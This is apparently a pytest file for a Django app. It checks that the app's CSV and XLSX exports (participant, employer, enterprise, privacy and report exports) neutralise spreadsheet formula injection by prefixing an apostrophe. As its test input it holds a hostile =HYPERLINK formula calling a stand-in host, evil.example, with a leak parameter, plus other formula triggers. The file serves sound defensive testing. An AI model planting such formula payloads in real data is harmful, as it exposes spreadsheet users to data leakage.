"""CSV/formula injection: a value a person typed as `=HYPERLINK(...)` (or starting with +, -, @) must
reach every CSV and XLSX export as text a spreadsheet shows, never as a formula it runs.
Each export is fetched through its page, as the role that may download it."""

import csv
import io
from datetime import date

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from openpyxl import load_workbook

from ceiq.core.exports import Column, csv_text, safe_text, xlsx_bytes
from ceiq.core.fiscal import FiscalYear
from reporting.indicators import compute_enterprise_rows, compute_indicators
from reporting.models import ReportRun
from tests.factories.employers import EmployerFactory, JobOpeningFactory, ReferralFactory, candidate
from tests.factories.participants import ParticipantFactory, PathwayFactory

FORMULA = '=HYPERLINK("https://evil.example/?leak=1","Cliquez ici")'
OTHER_TRIGGERS = ["+1+1", "-2+3", "@SUM(A1)"]


def _csv_cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith("\ufeff".encode()), "CSV exports start with a BOM (accents in spreadsheets)"
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_neutralised_in_csv(response):
    assert response.status_code == 200
    cells = _csv_cells(response)
    assert "'" + FORMULA in cells, "the value is exported, with its leading apostrophe"
    assert FORMULA not in cells, "no cell starts with the formula itself"


@pytest.fixture
def world(db, enterprise, make_user):
    enterprise.name = FORMULA
    enterprise.save(update_fields=["name"])
    participant = candidate(enterprise, last_name=FORMULA, first_name=FORMULA, strengths_summary=FORMULA)
    employer = EmployerFactory(name=FORMULA)
    opening = JobOpeningFactory(employer=employer, title=FORMULA)
    ReferralFactory(participant=participant, opening=opening, enterprise=enterprise)
    return {
        "enterprise": enterprise,
        "participant": participant,
        "employer": employer,
        "network": make_user("network"),
        "director": make_user("director", enterprise),
        "coordinator": make_user("coordinator", enterprise),
        "contact": make_user("employer", employer),
    }


@pytest.mark.parametrize(
    ("role", "url_name"),
    [
        ("network", "enterprises:export_csv"),
        ("coordinator", "participants:export_csv"),
        ("coordinator", "participants:pathway_export_csv"),
        ("network", "employers:export_csv"),
        ("contact", "employers:candidate_export_csv"),
    ],
)
def test_list_exports_neutralise_formulas(world, client, role, url_name):
    client.force_login(world[role])
    _assert_neutralised_in_csv(client.get(reverse(url_name)))


def test_law25_export_neutralises_formulas(world, client):
    client.force_login(world["coordinator"])
    url = reverse("privacy:participant_export", args=[world["participant"].pk])
    response = client.get(url, {"format": "csv"})
    _assert_neutralised_in_csv(response)


def _network_run(enterprise) -> ReportRun:
    PathwayFactory(
        participant=ParticipantFactory(enterprise=enterprise),
        start_date=date(2025, 6, 2),
        status="completed",
        actual_end_date=date(2025, 12, 5),
        exit_outcome="job",
    )
    year = FiscalYear(2025)
    run = ReportRun(
        scope="network",
        fiscal_year=2025,
        status="succeeded",
        progress=100,
        snapshot={
            "indicators": compute_indicators(fiscal_year=year),
            "enterprise_rows": compute_enterprise_rows(fiscal_year=year),
        },
    )
    run.pdf.save("reseau-2025.pdf", ContentFile(b"%PDF-1.4 test"), save=False)
    run.save()
    return run


def test_report_figures_neutralise_formulas_in_csv_and_xlsx(world, client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    run = _network_run(world["enterprise"])
    client.force_login(world["network"])
    url = reverse("reporting:export", args=[run.pk])
    csv_cells = _csv_cells(client.get(url, {"format": "csv"}))
    assert any(cell.startswith("'" + FORMULA) for cell in csv_cells), "the enterprise's name is in the figures"
    assert not any(cell.startswith(FORMULA) for cell in csv_cells)

    xlsx_cells = _xlsx_cells(client.get(url, {"format": "xlsx"}))
    assert not any(cell.data_type == "f" for cell in xlsx_cells), "no XLSX cell is a formula"
    assert any(str(cell.value).startswith("'" + FORMULA) for cell in xlsx_cells)


@pytest.mark.parametrize("value", [FORMULA, *OTHER_TRIGGERS, "\t=1+1"])
def test_the_export_module_neutralises_every_trigger_in_both_formats(value):
    columns = [Column("Nom"), Column("Nombre", kind="number"), Column("Date", kind="date")]
    rows = [(value, 12, date(2026, 4, 1))]
    assert csv_text(columns, rows).splitlines()[1].startswith(("'", "\"'"))
    sheet = load_workbook(io.BytesIO(xlsx_bytes(columns, rows))).active
    name, number, day = (cell for cell in sheet[2])
    assert name.data_type == "s" and name.value == "'" + value
    assert number.value == 12 and number.data_type == "n", "numbers stay numbers"
    assert day.is_date and day.value.date() == date(2026, 4, 1), "dates stay dates"


def test_a_carriage_return_cannot_start_a_formula_in_csv():
    assert csv_text([Column("Nom")], [("\r=1+1",)]).splitlines()[1].startswith("\"'")


def test_plain_text_is_left_as_written():
    assert safe_text("Lévesque") == "Lévesque"
    assert safe_text("") == ""
    assert safe_text(None) == ""
